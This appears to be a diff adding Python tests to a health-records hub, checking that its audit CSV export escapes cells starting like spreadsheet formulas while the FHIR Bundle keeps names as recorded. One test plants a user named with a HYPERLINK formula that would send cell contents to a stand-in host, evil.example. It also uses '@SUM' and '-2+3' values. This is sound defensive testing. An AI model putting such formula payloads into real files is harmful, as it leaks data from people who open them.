@@ -21,9 +21,10 @@ from hub.config import Settings, get_settings
 from hub.db.engine import Database
 from hub.fhir.identifiers import FNR_SYSTEM
 from hub.store import service
+from hub.ui.disclosures import csv_cell
 from tests.audit.trail import settle
 from tests.ui.conftest import SHARED_FNR as FNR
-from tests.ui.conftest import Browser, sign_in
+from tests.ui.conftest import Browser, make_user, sign_in
 
 
 def _patient_id(database: Database) -> str:
@@ -325,3 +326,49 @@ def test_a_record_that_cannot_be_read_is_shown_as_such_not_a_failure(
     shown = [e["resource"] for e in mine.json()["entry"]]
     assert "OperationOutcome" not in {r["resourceType"] for r in shown}
     assert theirs - {r["id"] for r in shown} == {json.loads(body)["id"]}
+
+
+def test_no_csv_cell_starts_like_a_spreadsheet_formula(
+        shared_story: dict[str, TestClient], database: Database, browser: Browser) -> None:
+    """A coordinator named like a formula reads the person (requested_by), and Time kommune's
+    directory name starts with `-` (recipient_name): in the CSV each such cell starts with a
+    single quote (OWASP), so a spreadsheet shows it as text; the FHIR Bundle export keeps the
+    name as recorded, and ordinary names stay as they are."""
+    pid = _patient_id(database)
+    formula = '=HYPERLINK("http://evil.example/?d="&A2&B2,"open")a'
+    make_user(database, formula, role="coordinator", organization_id="time-kommune")
+    make_user(database, "@SUM(1+1)", role="coordinator", organization_id="time-kommune")
+    for name in (formula, "@SUM(1+1)", "koordinator.time"):
+        coordinator = browser()
+        assert sign_in(coordinator, name).status_code == 303
+        assert coordinator.get(f"/ui/people/{pid}").status_code == 200
+    with database.session(write=True) as s:
+        org = service.read(s, Subject.hub_itself(), resource_type="Organization",
+                           resource_id="time-kommune").body
+        assert org is not None
+        service.update(s, Subject.hub_itself(), resource_type="Organization",
+                       resource_id="time-kommune", resource={**org, "name": "-2+3 kommune"})
+    client = _auditor(browser)
+    rows = list(csv.DictReader(io.StringIO(client.get(f"/ui/audit/people/{pid}/log.csv").text)))
+    asked = {r["requested_by"] for r in rows}
+    assert {f"'{formula}", "'@SUM(1+1)", "koordinator.time"} <= asked
+    assert formula not in asked
+    names = {r["recipient_name"] for r in rows}
+    assert "'-2+3 kommune" in names
+    assert "Jæren DPS" in names  # the control: an ordinary name as it is
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+                       for cell in row.values())
+    bundle = client.get(f"/ui/audit/people/{pid}/trail.json").json()
+    recorded = json.dumps(bundle, ensure_ascii=False)
+    assert json.dumps(formula)[1:-1] in recorded  # the Bundle is unchanged: the name as given
+    assert f"'{formula}" not in recorded
+
+
+@pytest.mark.parametrize(("value", "cell"), [
+    ("=1+1", "'=1+1"), ("+47 123", "'+47 123"), ("-3", "'-3"), ("@x", "'@x"),
+    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Time kommune", "Time kommune"), ("", ""),
+    ("a=b", "a=b"), ("2026-12-05T10:00:00+00:00", "2026-12-05T10:00:00+00:00")])
+def test_a_csv_cell_is_quoted_only_when_it_starts_like_a_formula(value: str,
+                                                                 cell: str) -> None:
+    assert csv_cell(value) == cell
